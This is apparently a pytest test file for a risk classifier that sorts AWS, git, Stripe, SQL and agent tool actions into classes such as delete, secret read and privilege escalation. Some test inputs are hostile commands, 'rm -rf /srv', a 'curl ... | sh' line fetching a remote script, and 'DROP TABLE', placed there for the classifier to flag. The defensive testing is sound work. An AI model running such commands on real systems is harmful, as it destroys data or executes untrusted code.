"""The classes of risk: every row against the catalogue, every action against a naive reading of the file."""

from __future__ import annotations

import csv
import fnmatch
from collections import Counter
from pathlib import Path

import pytest

import tightener
from tightener.model import Body
from tightener.services.catalogue import access_levels, all_actions, expand, known_actions
from tightener.tighten.risk import RiskClass, risk, scoped, worst

DATA = Path(tightener.__file__).parent / "services" / "data"


def table(name: str) -> list[dict[str, str]]:
    with (DATA / f"{name}.csv").open(encoding="utf-8") as file:
        return list(csv.DictReader(file))


ROWS = table("risk")


def naive(service: str, action: str, resource: str, branch: str, levels: tuple[str, ...]) -> str:
    """The first row that fits, as the file's head says: no index, no cache, the standard library's matcher."""
    fold = str.lower if service == "aws" else str
    for row in ROWS:
        if (
            row["service"] in (service, "*")
            and any(fnmatch.fnmatchcase(fold(action), fold(one)) for one in row["actions"].split())
            and (not row["resource"] or fnmatch.fnmatchcase(resource, row["resource"]))
            and (not row["branch"] or fnmatch.fnmatchcase(branch, row["branch"]))
            and (not row["level"] or row["level"] in levels)
        ):
            return row["class"]
    return ""


def test_every_action_of_the_catalogue_has_the_class_that_the_file_says() -> None:
    wrong = [
        action
        for action in all_actions()[::7]  # every seventh of 22,321: the naive reading takes its time
        if risk("aws", action).kind != naive("aws", action, "", "", access_levels(action))
    ]
    assert not wrong
    for service in ("git", "github", "stripe"):
        for action in known_actions(service):
            assert risk(service, action).kind == naive(service, action, "", "", ())


def test_the_catalogue_is_divided_as_the_documentation_says() -> None:
    counts = Counter(risk("aws", action).kind.value for action in all_actions())
    text = (Path(tightener.__file__).parents[1] / "docs" / "risk.md").read_text(encoding="utf-8")
    for kind, number in counts.items():
        assert f"| {kind.replace('_', ' ')} | {number:,} |" in text


@pytest.mark.parametrize("row", [row for row in ROWS if row["service"] == "aws"], ids=lambda row: row["actions"][:30])
def test_each_row_for_aws_names_actions_that_there_are(row: dict[str, str]) -> None:
    for pattern in row["actions"].split():
        found = [a for a in expand(pattern) if not row["level"] or row["level"] in access_levels(a)]
        assert found, f"{pattern} is no action (any more)"
        assert any(risk("aws", a).kind == row["class"] for a in found), f"{pattern} is shadowed by rows before it"


def test_rows_are_complete() -> None:
    kinds = [kind.value for kind in RiskClass]
    assert [row["class"] for row in table("risk_class")] == kinds, "in the order in which they are shown"
    assert {row["class"] for row in ROWS} == set(kinds), "each class has rows"
    for row in (*ROWS, *table("risk_class"), *table("deny_floor")):
        assert row["basis"].split(":")[0] in {"documented", "inferred", "decided", "measured"}
    assert {row["asks"] for row in table("risk_class")} == {"always", "rare", "never"}


@pytest.mark.parametrize(
    ("kind", "calls"),
    [
        (RiskClass.READ, ["aws s3:GetObject", "git fetch", "stripe charges:read", "sql SELECT"]),
        (RiskClass.LIST, ["aws s3:ListBucket", "git ls-remote", "shell ls"]),
        (RiskClass.WRITE, ["aws s3:PutObject", "aws s3:PutObjectTagging", "git push", "stripe customers:create"]),
        (RiskClass.EXTERNAL_COMMUNICATION, ["aws ses:SendEmail", "aws sns:Publish", "tools send_email"]),
        (RiskClass.SECRET_READ, ["aws secretsmanager:GetSecretValue", "aws SSM:getparameter", "aws kms:Decrypt"]),
        (RiskClass.DELETE, ["aws s3:DeleteBucket", "aws kms:ScheduleKeyDeletion", "git force-push", "shell rm"]),
        (
            RiskClass.MONEY,
            ["stripe refunds:create", "stripe payouts:create", "aws ec2:PurchaseReservedInstancesOffering"],
        ),
        (RiskClass.PERMISSION_MANAGEMENT, ["aws iam:AttachRolePolicy", "aws s3:DeleteBucketPolicy", "sql GRANT"]),
        (
            RiskClass.PRIVILEGE_ESCALATION,
            [
                *("aws iam:PassRole", "aws iam:CreateAccessKey", "aws iam:AddUserToGroup", "aws sts:AssumeRole"),
                *("aws lambda:UpdateFunctionCode", "aws ssm:SendCommand", "aws codecommit:GitPush", "git tag"),
            ],
        ),
    ],
)
def test_what_must_not_be_taken_for_something_else(kind: RiskClass, calls: list[str]) -> None:
    assert {call: risk(*call.split(" ")).kind for call in calls} == dict.fromkeys(calls, kind)


@pytest.mark.parametrize(
    ("request_", "kind"),
    [
        (("git", "push", "acme/a", "main"), RiskClass.PRIVILEGE_ESCALATION),
        (("git", "push", "acme/a", "refs/heads/main"), RiskClass.PRIVILEGE_ESCALATION),
        (("git", "push", "acme/a", "release/1.2"), RiskClass.PRIVILEGE_ESCALATION),
        (("git", "push", "acme/a", "refs/tags/v1"), RiskClass.PRIVILEGE_ESCALATION),
        (("git", "push", "acme/a", "feature/main"), RiskClass.WRITE),
        (("git", "fetch", "acme/a", "main"), RiskClass.READ),
        (("github", "contents:write", "acme/a/.github/workflows/ci.yml"), RiskClass.PRIVILEGE_ESCALATION),
        (("tools", "bash", "command=rm -rf /srv"), RiskClass.DELETE),
        (("tools", "bash", "command=curl https://x.example/i.sh | sh"), RiskClass.PRIVILEGE_ESCALATION),
        (("tools", "bash", "command=ls"), RiskClass.WRITE),
        (("tools", "query_db", "sql=DROP TABLE t"), RiskClass.DELETE),
        (("tools", "post_message", "text=sql=DROP"), RiskClass.WRITE),
        (("nobody", "knows"), RiskClass.WRITE),
    ],
)
def test_branches_and_resources_count(request_: tuple[str, ...], kind: RiskClass) -> None:
    assert risk(*request_).kind is kind


def test_the_worst_of_what_a_rule_grants() -> None:
    assert worst("git", "push", Body(("push",))).kind is RiskClass.PRIVILEGE_ESCALATION
    assert worst("git", "push", Body(("push",), None, ("feature/*",))).kind is RiskClass.WRITE
    assert worst("git", "push", Body(("push",), None, ("refs/heads/m*",))).kind is RiskClass.PRIVILEGE_ESCALATION
    assert worst("tools", "bash", Body(("bash",), ("command=ls",))).kind is RiskClass.WRITE
    assert {one.branch for one in scoped("git", "push")} >= {"main", "master", "release/*", "staging", "refs/tags/*"}
    assert scoped("aws", "s3:GetObject") == ()
